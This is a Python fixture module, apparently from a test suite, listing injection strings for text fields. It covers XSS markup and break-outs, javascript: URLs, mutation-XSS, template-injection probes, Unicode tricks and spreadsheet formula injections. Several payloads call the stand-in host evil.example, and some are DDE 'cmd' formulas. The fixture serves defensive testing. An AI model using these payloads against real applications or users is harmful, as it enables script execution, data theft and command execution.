"""Attack texts for text fields, which try to make a browser, a template or a spreadsheet execute something.

Each payload calls `pwned()`, or requests a host that does not exist: both are detected. Each has at most 80 characters,
the size of the shortest text column.
"""

from __future__ import annotations

HOST = "evil.example"

MARKUP = [
    "<script>pwned(1)</script>",
    "<img src=x onerror=pwned(2)>",
    f"<img src=//{HOST}/a.png>",
    "<svg onload=pwned(3)>",
    "<svg><animate onbegin=pwned(4) attributeName=x dur=1s>",
    "<svg><script>pwned&#40;5)</script>",
    f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<meta http-equiv=refresh content='0;//{HOST}'>",
    f"<base href=//{HOST}/>",
    "<iframe srcdoc='<script>parent.pwned(6)</script>'>",
    "<details open ontoggle=pwned(7)>",
    "<input autofocus onfocus=pwned(8)>",
    f"<form action=//{HOST}><button autofocus>",
    f"<div hx-get=//{HOST}/ hx-trigger=load>",
    "<div data-module='refresh' hx-on:htmx:load=pwned(9)>",
    "<style>@import '//evil.example/b.css';</style>",
    "<video src=x onerror=pwned(10)></video>",
]
BREAKING_OUT = [
    '"><script>pwned(20)</script>',
    "'><script>pwned(21)</script>",
    '" onmouseover=pwned(22) autofocus onfocus=pwned(22) x="',
    "' autofocus onfocus=pwned(23) x='",
    "` onfocus=pwned(24) autofocus `",
    "</title><script>pwned(25)</script>",
    "</textarea><script>pwned(26)</script>",
    "</template><script>pwned(27)</script>",
    "</style></script><script>pwned(28)</script>",
    "--><script>pwned(29)</script><!--",
    "]]><script>pwned(30)</script>",
    "</p></main></body><script>pwned(31)</script>",
    '\\"};pwned(32);//',
    "\u2028pwned(33)//",
    "&lt;script&gt;pwned(34)&lt;/script&gt;",
    "&#60;script&#62;pwned(35)&#60;/script&#62;",
    "%3Cscript%3Epwned(36)%3C/script%3E",
    "+ADw-script+AD4-pwned(37)+ADw-/script+AD4-",
]
ADDRESSES = [
    "javascript:pwned(40)",
    "JaVaScRiPt:pwned(41)",
    "java\tscript:pwned(42)",
    "data:text/html,<script>pwned(43)</script>",
    f"//{HOST}/",
    f"/\\{HOST}/",
    f"https://{HOST}/",
    "url(//evil.example/c)",
]
MUTATING = [
    '<noscript><p title="</noscript><img src=x onerror=pwned(50)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(51)>",
    '<svg></p><style><a id="</style><img src=x onerror=pwned(52)>">',
    "<table><td><select><img src=x onerror=pwned(53)>",
    "<x\u00a0onclick=pwned(54)>",
    "<\u017fcript>pwned(55)</\u017fcript>",
    "＜script＞pwned(56)＜/script＞",
]
TEMPLATES = [
    "{{7*7}}",
    "{%debug%}",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "${7*7}",
    "#{7*7}",
    "<%=7*7%>",
    "%(name)s %s",
]
LETTERS = [
    "\u202egpj.exe",
    "\u2066\u2067\u202dname\u2069",
    "\u200b\u200d\ufeff",
    "A" * 80,
    "W\u0300" * 40,
    "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1" * 8,
    "𝕬𝖒𝖆𝖑 𐍈 𠜎",
    "ﷺ" * 40,
]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "=HYPERLINK(\"//evil.example\";\"x\")", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\";=1+1;\"", "\u200b=1+1",
    "=IMPORTXML(\"//evil.example\";\"//a\")", "'=1+1", "\u00a0=1+1", "−1+1", "\ufeff=1+1", "\n=1+1", "\u202e=1+1",
]  # fmt: skip
ALL = [*MARKUP, *BREAKING_OUT, *ADDRESSES, *MUTATING, *TEMPLATES, *LETTERS, *FORMULAS]
